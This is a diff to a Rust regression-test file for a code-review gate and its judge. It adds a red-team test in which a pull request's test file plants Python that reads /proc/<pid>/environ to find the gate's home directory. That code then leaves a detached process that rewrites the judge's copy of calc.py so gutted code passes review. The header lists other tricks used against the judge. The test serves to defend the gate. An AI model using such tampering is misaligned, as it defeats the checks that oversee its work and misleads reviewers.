@@ -5,7 +5,8 @@
 //! file turned into a link to a FIFO, a new package shadowing the code, an old
 //! goal made the decoy by a rebased commit, a gutted file padded past blame's
 //! bound, code written past the line limit, and the judge asked about a typo in a
-//! person's README; and a pull request's verify planting in the judges' directory.
+//! person's README; and a pull request's verify planting in the judges' directory
+//! or leaving a process to rewrite the judge's copy.
 
 use crate::gate::{rev, user_judge};
 use crate::util::{Test, fixture_path};
@@ -428,4 +429,49 @@ fn a_pull_requests_verify_cannot_plant_in_the_judges_directory() {
         run.stdout,
         run.stderr
     );
+}
+
+// Red team (d470601): the gate's judge reads its copy of the pull request's commit
+// in the judges' private directory, made after the verify ran. The verify is the
+// pull request's code, run as the gate's user: it leaves a process behind in a
+// session of its own with an empty environment (no run mark, so nothing ends it),
+// which finds the gate's HOME in /proc/<parent>/environ and puts the honest calc.py
+// back in the judge's copy as soon as it is exported, for the judge to accept.
+// Held: the gate ends every descendant between verify and judge (the subreaper
+// makes the orphan one); kept as a guard.
+#[test]
+fn a_process_the_verify_left_cannot_rewrite_the_judges_copy() {
+    let t = adopted();
+    t.write("calc.py", "def add(a, b):\n    return a + b\n");
+    t.commit_all("add, by hand");
+    let base = sign_off_a_then_gut(&t);
+    // CI's judge accepts only the honest code.
+    let judge = t.dir.path().join("honest-judge");
+    std::fs::write(
+        &judge,
+        format!(
+            "#!/bin/sh\nif grep -q 'a + b' calc.py; then exec '{}' \"$@\"; else exec '{}' \"$@\"; fi\n",
+            fixture_path("judges/accept").display(),
+            fixture_path("judges/reject").display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&judge, std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(
+        t.dir.path().join("home/.config/plan/config.yaml"),
+        format!(
+            "judge:\n  backend: command\n  command: [\"{}\"]\n  timeout_secs: 10\n",
+            judge.display()
+        ),
+    )
+    .unwrap();
+    let watcher = "import glob, os, sys, time\nend = time.time() + 20\nwhile time.time() < end:\n    for f in glob.glob(sys.argv[1] + '/.cache/plan/judges/plan-judged-*/tree/calc.py'):\n        try:\n            if 'return 5' in open(f).read():\n                open(f, 'w').write('def add(a, b):\\n    return a + b\\n')\n                sys.exit(0)\n        except OSError:\n            pass\n    time.sleep(0.002)\n";
+    let plant = format!(
+        "import os, subprocess, sys\n\ndef home():\n    pid = os.getppid()\n    for _ in range(8):\n        try:\n            env = open(f'/proc/{{pid}}/environ', 'rb').read().split(b'\\0')\n        except OSError:\n            return None\n        for kv in env:\n            if kv.startswith(b'HOME=') and b'plan-verify-' not in kv:\n                return kv[5:].decode()\n        pid = int(open(f'/proc/{{pid}}/stat').read().rsplit(')', 1)[1].split()[1])\n\nif home():\n    subprocess.Popen([sys.executable, '-c', {watcher:?}, home()], env={{}}, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)\n\n"
+    );
+    t.write("test_calc.py", format!("{plant}{TEST_CALC}"));
+    t.commit_all("tests");
+    let run = t.run(&["audit", "--base", &base, "--strict", "--rejudge"]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
 }
